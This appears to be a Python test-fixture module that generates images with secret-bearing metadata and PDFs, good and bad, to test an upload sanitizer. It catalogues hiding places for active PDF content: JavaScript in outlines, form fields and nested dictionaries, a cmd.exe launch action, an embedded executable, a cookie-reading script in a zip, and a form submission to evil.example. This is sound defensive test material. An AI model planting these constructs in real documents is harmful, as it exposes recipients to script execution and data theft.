"""Real files made on the spot for the upload tests: PDFs, PNGs and JPEGs, good and bad."""

from __future__ import annotations

import io
import zipfile

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

SECRET = "SecretCamera-GPS-31.2304N-121.4737E"


def png(width: int = 64, height: int = 48, *, exif: bool = False, text: bool = False) -> bytes:
    img = Image.new("RGB", (width, height), (200, 220, 240))
    img.putpixel((1, 1), (10, 20, 30))
    buf = io.BytesIO()
    kwargs: dict = {}
    if exif:
        meta = Image.Exif()
        meta[0x010F] = SECRET  # Make
        meta[0x010E] = SECRET  # ImageDescription
        kwargs["exif"] = meta.tobytes()
    if text:
        info = PngInfo()
        info.add_text("Comment", SECRET)
        kwargs["pnginfo"] = info
    img.save(buf, format="PNG", **kwargs)
    return buf.getvalue()


def jpeg(width: int = 64, height: int = 48, *, exif: bool = False) -> bytes:
    img = Image.new("RGB", (width, height), (240, 200, 200))
    buf = io.BytesIO()
    kwargs: dict = {}
    if exif:
        meta = Image.Exif()
        meta[0x010F] = SECRET
        kwargs["exif"] = meta.tobytes()
    img.save(buf, format="JPEG", quality=85, **kwargs)
    return buf.getvalue()


def zip_payload() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("evil.html", "<html><script>alert(document.cookie)</script></html>")
    return buf.getvalue()


def pdf(
    *, pages: int = 1, password: str | None = None, javascript: str | None = None, padding: int = 0
) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if padding:
        writer.add_metadata({"/Subject": "x" * padding})
    if javascript:  # an action run when the document opens
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if password:
        writer.encrypt(password)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_of_size(size: int) -> bytes:
    """A valid PDF of exactly ``size`` bytes (padded through a metadata string)."""
    padding = 1
    for _ in range(5):
        data = pdf(padding=padding)
        if len(data) == size:
            return data
        padding += size - len(data)
    raise AssertionError(f"could not make a PDF of {size} bytes")


def _pikepdf_bytes(build) -> bytes:
    """A one-page PDF that ``build(pdf, page)`` adds something to."""
    doc = pikepdf.new()
    doc.add_blank_page(page_size=(595, 842))
    build(doc, doc.pages[0])
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def _js(code: str = "app.alert(1)") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def _outline_js(doc, page):
    item = doc.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("第一章"), A=_js()))
    doc.Root.Outlines = doc.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
    )


def _field_aa_js(doc, page):
    field = doc.make_indirect(
        pikepdf.Dictionary(
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("name"),
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            Rect=[100, 100, 300, 130],
            AA=pikepdf.Dictionary(K=_js("event.value = 1")),  # keystroke action
        )
    )
    page.Annots = doc.make_indirect(pikepdf.Array([field]))
    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[field])


def _xfa(doc, page):
    packet = doc.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=packet)


def _link(uri: str):
    def build(doc, page):
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[100, 100, 300, 130],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri)),
        )
        page.Annots = doc.make_indirect(pikepdf.Array([doc.make_indirect(link)]))

    return build


def _launch(doc, page):
    page.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    )


def _embedded_file(doc, page):
    data = doc.make_stream(b"MZ not really an exe")
    data.Type = pikepdf.Name.EmbeddedFile
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=data)
    )
    doc.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("a.exe"), spec])
    )


def _names_js(doc, page):
    doc.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), doc.make_indirect(_js())])
    )


def _nested_deep_js(doc, page):
    # a script several direct dictionaries down an object nobody looks at
    holder = pikepdf.Dictionary(Inner=pikepdf.Dictionary(More=pikepdf.Array([_js()])))
    doc.Root.PieceInfo = pikepdf.Dictionary(Private=holder)


def _submit_form(doc, page):
    page.AA = pikepdf.Dictionary(
        C=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example"))
    )


# each way of hiding something that runs or carries a file in a PDF, by where it hides
ACTIVE_PDFS = {
    "javascript in an outline entry": _outline_js,
    "javascript in a form field's additional actions": _field_aa_js,
    "an XFA packet": _xfa,
    "a javascript: link": _link("javascript:app.alert(1)"),
    "a file: link": _link("file:///C:/Windows/System32/calc.exe"),
    "a launch action on a page": _launch,
    "an embedded file": _embedded_file,
    "document-level javascript in the names tree": _names_js,
    "javascript nested deep in a private dictionary": _nested_deep_js,
    "a form submission when the page closes": _submit_form,
}

# ordinary PDFs that must still pass: a web link, an outline, a plain form field
BENIGN_PDFS = {
    "an https link": _link("https://zwfw.example.gov.cn/"),
    "an outline with a page destination": lambda doc, page: setattr(
        doc.Root,
        "Outlines",
        doc.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, Count=0)),
    ),
    "a plain form field": lambda doc, page: setattr(
        doc.Root,
        "AcroForm",
        pikepdf.Dictionary(
            Fields=[
                doc.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("x")))
            ]
        ),
    ),
}


def active_pdf(kind: str) -> bytes:
    return _pikepdf_bytes(ACTIVE_PDFS[kind])


def benign_pdf(kind: str) -> bytes:
    return _pikepdf_bytes(BENIGN_PDFS[kind])
